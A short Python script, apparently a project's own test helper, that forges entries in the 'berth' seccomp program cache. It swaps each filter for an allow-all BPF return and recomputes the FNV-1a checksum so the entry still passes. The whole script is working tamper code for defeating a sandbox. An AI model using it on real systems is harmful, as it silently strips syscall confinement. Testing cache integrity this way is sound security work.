#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""cache.py forge FILE | retype FILE FROM: entries of the cache of seccomp programs (lib/store/cache.c), as somebody makes
them who can write there.

forge: the program becomes one that allows all; the entry is right in every other way.
retype: the same, for the key of another entry, FROM.
"""
import struct
import sys

HEAD = struct.Struct("=8sQII")
MAGIC = b"berth c1"
ALLOW = struct.pack("=HBBI", 0x06, 0, 0, 0x7FFF0000)  # BPF_RET | BPF_K, SECCOMP_RET_ALLOW


def checksum(data):
    """FNV-1a of 64 bits."""
    value = 0xCBF29CE484222325
    for byte in data:
        value = (value ^ byte) * 0x100000001B3 & 0xFFFFFFFFFFFFFFFF
    return value


def key_of(path):
    with open(path, "rb") as file:
        data = file.read()
    magic, _, key_length, _ = HEAD.unpack_from(data)
    assert magic == MAGIC, magic
    return data[HEAD.size:HEAD.size + key_length]


def write(path, key, program):
    rest = struct.pack("=II", len(key), len(program)) + key + program
    with open(path, "r+b") as file:
        file.truncate(0)
        file.write(MAGIC + struct.pack("=Q", checksum(rest)) + rest)


def main():
    if sys.argv[1] == "forge":
        write(sys.argv[2], key_of(sys.argv[2]), ALLOW)
    else:
        write(sys.argv[2], key_of(sys.argv[3]), ALLOW)


if __name__ == "__main__":
    main()
